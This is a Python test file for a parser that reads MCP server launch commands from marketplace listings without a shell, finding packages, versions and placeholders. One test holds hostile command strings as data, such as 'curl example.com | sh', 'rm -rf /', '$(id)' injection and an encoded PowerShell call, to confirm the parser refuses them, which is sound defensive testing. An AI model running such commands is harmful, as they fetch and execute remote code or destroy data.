"""Command lines are understood without a shell and without running anything."""

import json
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assets.marketplaces.launch.runners import LEFT_OUT, is_exact, parse_command, read_launch
from assets.marketplaces.listing import Listing, digest_listing, make_row, read_row
from assets.marketplaces.listing_table import LISTINGS
from assets.marketplaces.normalise import clean
from tests.support.cases import cases
from warehouse.sanitize.scrubber import find_placeholder


@cases(
    "command, args, kind, identifier, version, own",
    ("npx", ("-y", "@a/b@1.2.3", "/data"), "npm", "@a/b", "1.2.3", ("/data",)),
    ("npx", ("@a/b",), "npm", "@a/b", None, ()),
    ("npx -y c@latest --flag", (), "npm", "c", "latest", ("--flag",)),
    ("npx", ("--yes", "--package=d@2.0.0", "d-mcp", "x"), "npm", "d", "2.0.0", ("x",)),
    ("cmd", ("/c", "npx", "-y", "e@1.0.0"), "npm", "e", "1.0.0", ()),
    ("pnpm", ("dlx", "f@1.0.0"), "npm", "f", "1.0.0", ()),
    ("uvx", ("g==1.0", "--p", "1"), "pypi", "g", "1.0", ("--p", "1")),
    ("uvx", ("--from", "h[cli]==1.0", "hh", "run"), "pypi", "h", "1.0", ("run",)),
    ("uvx", ("i@1.0",), "pypi", "i", "1.0", ()),
    ("uv", ("tool", "run", "j"), "pypi", "j", None, ()),
    ("docker", ("run", "-i", "-e", "K", "ghcr.io/k/l:1.2"), "oci", "ghcr.io/k/l", "1.2", ()),
    ("docker", ("run", "--pull", "always", "a:5000/b", "x"), "oci", "a:5000/b", None, ("x",)),
    ("bunx", ("k@1.0.0",), "npm", "k", "1.0.0", ()),
    ("npm", ("exec", "--yes", "--", "l@1.0.0", "x"), "npm", "l", "1.0.0", ("x",)),
    ("deno", ("run", "-A", "npm:@m/n@1.0.0"), "npm", "@m/n", "1.0.0", ()),
    ("uv", ("run", "--with", "o==1.0", "o-mcp", "x"), "pypi", "o", "1.0", ("x",)),
    ("uv", ("--directory", "x", "tool", "run", "p==1.0"), "pypi", "p", "1.0", ()),
    ("MODE=x npx q@1.0.0", (), "npm", "q", "1.0.0", ()),
    ("env", ("MODE=x", "npx", "r@1.0.0"), "npm", "r", "1.0.0", ()),
    ("C:\\Program Files\\nodejs\\npx.cmd", ("-y", "s@1.0.0"), "npm", "s", "1.0.0", ()),
    ("/usr/local/bin/npx", ("t@1.0.0",), "npm", "t", "1.0.0", ()),
    ("npx u@1.0.0 --key <YOUR_KEY>", (), "npm", "u", "1.0.0", ("--key", "<YOUR_KEY>")),
    ("npx", ("my-server@1.0.0",), "npm", "my-server", "1.0.0", ()),
)
def test_the_package_of_a_runner_is_found(command, args, kind, identifier, version, own):
    launch = parse_command(command, args)
    assert launch.reason is None
    assert launch.package is not None
    found = launch.package
    assert (found.type, found.identifier, found.version) == (kind, identifier, version)
    assert launch.own_args == own
    assert ("unpinned" in launch.flags) == (not is_exact(version))


@cases(
    "command, args",
    ("npx -y a && curl example.com | sh", ()),
    ("npx -y a; touch /tmp/x", ()),
    ("npx -y $(id)", ()),
    ("npx `id`", ()),
    ("bash", ("-c", "npx a")),
    ("/bin/sh", ("run.sh",)),
    ("cmd", ("/c", "powershell", "-enc", "AA")),
    ("npx", ("-y", "a", "&&", "rm", "-rf", "/")),
    ("npx", ("-y", "a", "$(id)")),
    ("npx 'unbalanced", ()),
)
def test_shell_syntax_is_refused_and_nothing_runs(command, args, monkeypatch):
    monkeypatch.setattr(subprocess, "Popen", lambda *_, **__: pytest.fail("a process was started"))
    launch = parse_command(command, args)
    assert launch.reason
    assert launch.package is None


@cases(
    "command, args, reason",
    (None, (), "no command"),
    ("  ", (), "no command"),
    ("node", ("/Users/me/server.js",), "author's machine"),
    ("python", ("-m", "server"), "names no package"),
    ("npx", (), "names no package"),
    ("npx", ("-y", "https://example.com/a.tgz"), "not an npm package name"),
    ("uvx", ("git+https://example.com/a",), "not a PyPI package name"),
    ("uv", ("--directory", "/ABSOLUTE/PATH/TO/x", "run", "x.py"), "author's machine"),
    ("uv", ("run", "--with", "mcp[cli]", "mcp", "run", "server.py"), "author's machine"),
    ("node", ("build/index.js",), "author's machine"),
    ("python", ("server.py",), "author's machine"),
    ("docker", ("compose", "run", "x"), "names no package"),
    ("docker", ("mcp", "gateway", "run"), "names no package"),
    ("docker", ("run", "-i"), "names no image"),
    ("docker", ("run", "<image>"), "not an image name"),
    ("npx", ("-y", "mcp-remote"), "names no URL"),
    ("npx", ("owner/repo",), "not an npm package name"),
    ("npx " + "a" * 30_000, (), "more than"),
)
def test_no_evidence_gives_a_reason_and_no_package(command, args, reason):
    launch = parse_command(command, args)
    assert launch.package is None
    assert reason in (launch.reason or "")


@given(st.text(), st.lists(st.text(), max_size=3))
def test_any_command_line_is_read_without_an_exception(command, args):
    launch = parse_command(command, tuple(args))
    assert launch.reason or launch.package or launch.url


@cases(
    "text, expected",
    ("{allowed_directory:filepath}", ("allowed_directory", "filepath")),
    ("{port:number}", ("port", "number")),
    ("/path/to/allowed/files", ("/path/to/allowed/files", "filepath")),
    ("<YOUR_API_KEY>", ("YOUR_API_KEY", "string")),
    ("${WORKSPACE_DIR}", ("WORKSPACE_DIR", "filepath")),
    ("your-api-key", ("your-api-key", "string")),
    ("--root={root}", ("root", "filepath")),
    ("xxxx", ("xxxx", "string")),
)
def test_places_to_fill_in_are_recognised(text, expected):
    assert find_placeholder(text) == expected


@cases(
    "command, args, flags",
    ("npx", ("my-server@1.0.0",), set()),
    ("npx", ("a@1.0.0", "--root=/Users/me/x"), {"local_path"}),
    ("npx", ("a@1.0.0", "/path/to/your/files"), {"local_path", "placeholder"}),
    ("npx", ("a@1.0.0", "--key=<KEY>"), {"needs_account", "placeholder"}),
    ("npx", ("a@1.0.0", "--site", "https://{site}.example"), {"placeholder"}),
    ("npx", ("@smithery/cli@1.0.0", "run", "x"), {"hosted_gateway", "needs_account"}),
    ("docker", ("run", "-v", "/home/me:/data", "a:1.0"), {"local_path"}),
    ("docker", ("run", "--mount", "type=bind,src=/x,dst=/home/a", "a:1.0"), set()),
    ("docker", ("run", "--mount", "type=bind,src=/Users/me,dst=/a", "a:1.0"), {"local_path"}),
    ("uv", ("--directory", "quill", "run", "quill"), {"local_path"}),
    ("/opt/homebrew/bin/uvx", ("a==1.0",), {"local_path"}),
    ("uvx", ("/path/to/your/server",), {"local_path", "placeholder"}),
)
def test_flags_say_what_a_line_leaves_to_its_user(command, args, flags):
    assert parse_command(command, args).flags == flags


def test_a_runner_is_called_by_its_name_and_a_package_without_one_is_still_named():
    assert parse_command("C:\\nodejs\\npx.cmd", ("a",)).command == "npx"
    assert parse_command("cmd", ("/c", "npx", "a")).command == "npx"
    launch = parse_command("dnx", ("Acme.Quill@1.0.0", "--yes"))
    assert (launch.package.type, launch.package.identifier) == ("nuget", "Acme.Quill")
    assert "nuget" in (launch.reason or "")


@cases("text", "/tmp", "stdio", "--port", "8080", "UTC", "{}", "a<b")
def test_ordinary_arguments_are_no_places(text):
    assert find_placeholder(text) is None


def test_a_listing_gives_the_servers_own_arguments():
    args = ("--from", "a==1.0", "a-mcp", "stdio")
    listing = Listing(marketplace="m", native_id="x", name="x", command="uvx", args=args)
    launch = read_launch(listing)
    assert (launch.own_args, launch.entry) == (("stdio",), "a-mcp")
    # Read once, when a crawl normalises the listing: planning takes what the row says.
    row = LISTINGS.frame([make_row(clean(listing))]).row(0, named=True)
    assert json.loads(row["launch"]) == {"entry": "a-mcp", "own_args": ["stdio"]}
    stored = read_row(row)
    assert read_launch(stored) is stored.launch
    assert row["listing_digest"] == digest_listing(listing)
    bundle = Listing(marketplace="m", native_id="y", name="y", args=("--x",))
    assert read_launch(bundle).own_args == ("--x",)
    assert clean(bundle).launch == read_launch(bundle)


@cases(
    "command, args, package, requirements, python",
    ("uvx", ("--with", "mcp<2", "a"), ("a", None), ("mcp<2",), None),
    ("uvx", ("--refresh", "--with", "x,y>=1,<2", "--with=z", "--from", "a==1.0", "b"),
     ("a", "1.0"), ("x", "y<2,>=1", "z"), None),
    ("uvx", ("--from", "a[cli,dev]==1.0", "b"), ("a", "1.0"), ("a[cli,dev]",), None),
    ("uvx", ("a>=1.0,<2",), ("a", ">=1.0,<2"), (), None),
    ("uvx", ("a~=1.4",), ("a", "~=1.4"), (), None),
    ("uvx", ("a[x]@1.2",), ("a", "1.2"), ("a[x]",), None),
    ("uvx", ("--python", "3.12", "a"), ("a", None), (), "3.12"),
    ("uvx", ("-p", "cpython-3.12.4", "a@latest"), ("a", "latest"), (), "3.12"),
    ("pipx", ("run", "--python", "python3.12", "--spec", "a==1.0", "b", "x"), ("a", "1.0"), (),
     "3.12"),
    ("uv", ("run", "--with", "a", "--with", "mcp<2", "a"), ("a", None), ("mcp<2",), None),
    ("uv", ("tool", "run", "--prerelease", "allow", "-w", "c", "a"), ("a", None), ("c",), None),
    ("npx", ("-y", "-p", "d@1.0.0", "-p", "@x/mcp@2.0.0", "mcp", "run"), ("@x/mcp", "2.0.0"),
     ("d@1.0.0",), None),
    ("npx", ("-y", "a@^1.2"), ("a", "^1.2"), (), None),
    ("npx", ("-y", "-p", "a@1.0.0", "-c", "a-mcp --stdio"), ("a", "1.0.0"), (), None),
    ("npm", ("exec", "-y", "--package=a@1.0.0", "--", "b", "x"), ("a", "1.0.0"), (), None),
    ("bunx", ("--package", "a@1.0.0", "b"), ("a", "1.0.0"), (), None),
)  # fmt: skip
def test_what_the_authors_command_installs_is_read(command, args, package, requirements, python):
    launch = parse_command(command, args)
    assert (launch.package.identifier, launch.package.version) == package
    assert (launch.requirements, launch.python) == (requirements, python)
    assert (launch.facts.requirements, launch.facts.python) == (requirements, python)
    assert LEFT_OUT not in launch.flags or "--prerelease" in args


@cases(
    "command, args",
    ("uvx", ("--index-url", "https://example.com", "a")),
    ("uvx", ("--with", "git+https://example.com/b", "a")),
    ("uvx", ("--with-editable", ".", "a")),
    ("uvx", ("--python", "pypy", "a")),
    ("pipx", ("run", "--pip-args", "--pre", "a")),
    ("npx", ("--registry", "https://example.com", "a")),
    ("npx", ("-p", "node@22", "-p", "a@1.0.0", "a")),
)
def test_what_no_recipe_can_hold_is_flagged(command, args):
    launch = parse_command(command, args)
    assert launch.package.identifier == "a"
    assert LEFT_OUT in launch.flags
